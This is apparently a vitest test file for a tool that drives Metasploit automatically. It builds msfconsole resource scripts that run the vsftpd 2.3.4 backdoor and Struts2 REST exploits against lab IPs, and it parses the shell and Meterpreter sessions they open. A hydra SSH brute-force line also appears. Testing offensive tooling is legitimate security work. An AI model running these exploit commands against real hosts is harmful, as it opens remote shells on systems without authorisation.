import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import * as fs from 'fs';
import * as os from 'os';
import path from 'path';
import {
  ConsoleResourceRunner,
  buildResourceScript,
  isConsoleCommand,
  parseOpenedSessions,
} from '../console-resource.js';
import type { CommandRunner, ExecutionRequest, ResultEnvelope } from '../../core/types.js';

class RecordingRunner implements CommandRunner {
  requests: ExecutionRequest[] = [];
  scripts: string[] = [];

  constructor(private stdout: string) {}

  async execute(request: ExecutionRequest): Promise<ResultEnvelope> {
    this.requests.push(request);
    if (Array.isArray(request.command)) {
      this.scripts.push(fs.readFileSync(request.command[2], 'utf-8'));
    }
    return {
      success: true,
      stdout: this.stdout,
      stderr: '',
      exitCode: 0,
      durationSeconds: 0.5,
      truncated: false,
    };
  }
}

describe('isConsoleCommand', () => {
  it('routes module selections and explicit console mentions', () => {
    expect(isConsoleCommand('use exploit/unix/ftp/vsftpd_234_backdoor')).toBe(true);
    expect(isConsoleCommand('launch Metasploit handler')).toBe(true);
    expect(isConsoleCommand('hydra -l admin ssh://10.0.0.5')).toBe(false);
  });
});

describe('buildResourceScript', () => {
  it('adds target, listener, check and background run for module selections', () => {
    expect(buildResourceScript('use exploit/multi/http/struts2_rest', '10.0.0.5', '10.0.0.2')).toEqual([
      'use exploit/multi/http/struts2_rest',
      'set RHOSTS 10.0.0.5',
      'set LHOST 10.0.0.2',
      'check',
      'exploit -j',
      'exit',
    ]);
  });

  it('only appends exit for other directives', () => {
    expect(buildResourceScript('set RHOSTS 10.0.0.5', '10.0.0.5', '0.0.0.0')).toEqual([
      'set RHOSTS 10.0.0.5',
      'exit',
    ]);
  });
});

describe('parseOpenedSessions', () => {
  it('returns unique session ids in order', () => {
    const output = [
      '[*] Command shell session 2 opened (10.0.0.2:4444 -> 10.0.0.5:51234)',
      '[*] Meterpreter session 3 opened',
      '[*] Command shell session 2 opened',
    ].join('\n');

    expect(parseOpenedSessions(output)).toEqual([2, 3]);
  });
});

describe('ConsoleResourceRunner', () => {
  let workDir: string;

  beforeEach(() => {
    workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'console-resource-'));
  });

  afterEach(() => {
    fs.rmSync(workDir, { recursive: true, force: true });
  });

  it('writes the resource file and invokes the console quietly against it', async () => {
    const runner = new RecordingRunner('[*] Command shell session 1 opened');
    const consoleRunner = new ConsoleResourceRunner(runner, '10.0.0.2');

    const result = await consoleRunner.run('use exploit/unix/ftp/vsftpd_234_backdoor', '10.0.0.5', {
      workDir,
      timeoutSeconds: 600,
      maxOutputBytes: 4096,
    });

    expect(result.sessions).toEqual([1]);
    expect(path.dirname(result.resourcePath)).toBe(workDir);
    expect(runner.requests[0].command).toEqual(['msfconsole', '-r', result.resourcePath, '-q']);
    expect(runner.requests[0].timeoutSeconds).toBe(600);
    expect(runner.scripts[0]).toBe(
      [
        'use exploit/unix/ftp/vsftpd_234_backdoor',
        'set RHOSTS 10.0.0.5',
        'set LHOST 10.0.0.2',
        'check',
        'exploit -j',
        'exit',
      ].join('\n') + '\n'
    );
  });
});
